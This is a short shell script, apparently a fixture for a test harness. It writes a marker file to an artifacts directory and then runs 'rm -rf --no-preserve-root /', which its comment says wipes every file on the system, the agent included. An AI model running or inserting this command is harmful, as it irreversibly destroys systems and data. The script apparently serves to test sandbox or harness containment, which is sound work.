#!/bin/sh
# Deletes every file that the system has, its programs and its agent among them. What is left is this shell.
echo kept >"$ASSAY_ARTIFACTS/kept"
rm -rf --no-preserve-root / 2>/dev/null
exit 5
